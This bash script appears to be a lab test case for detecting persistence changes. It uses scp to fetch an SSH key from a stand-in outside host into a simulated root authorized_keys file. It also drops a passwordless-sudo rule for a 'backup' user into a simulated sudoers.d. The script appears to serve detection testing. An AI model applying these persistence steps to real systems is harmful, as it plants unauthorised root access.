#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=tune tool=scp,ssh far=out ready=out:2022 seconds=16 parts=dns before=yes
# scp fetches a key from outside into root's authorized_keys and a file of rules into sudoers.d; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then
	"$(dirname "$0")/../far/host-root.sh"
	mkdir -p "$LAB/ssh" /run/sshd
[ -e "$LAB/ssh/host" ] || { ssh-keygen -q -t ed25519 -N "" -f "$LAB/ssh/host"; ssh-keygen -q -t ed25519 -N "" -f "$LAB/ssh/key"; cp "$LAB/ssh/key.pub" "$LAB/ssh/authorized"; }
	exit
fi
if [ "$1" = out ]; then
	cp "$LAB/ssh/key.pub" "$LAB/keys"; echo 'backup ALL=(ALL) NOPASSWD: ALL' >"$LAB/90-backup"
	exec timeout 30 /usr/sbin/sshd -D -f /dev/null -h "$LAB/ssh/host" -o AuthorizedKeysFile="$LAB/ssh/authorized" -o StrictModes=no -o PidFile=none -o UsePAM=no -o PermitRootLogin=yes -o Subsystem="sftp internal-sftp" -o ListenAddress=203.0.113.66 -p 2022
fi
sleep 2; o=(-F /dev/null -i "$LAB/ssh/key" -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o LogLevel=ERROR -P 2022)
scp -q "${o[@]}" "root@203.0.113.66:$LAB/keys" "$LAB/host/root/.ssh/authorized_keys"; sleep 2
scp -q "${o[@]}" "root@203.0.113.66:$LAB/90-backup" "$LAB/host/etc/sudoers.d/90-backup"; sleep 4
grep -q NOPASSWD "$LAB/host/etc/sudoers.d/90-backup" && grep -q ssh-ed25519 "$LAB/host/root/.ssh/authorized_keys"
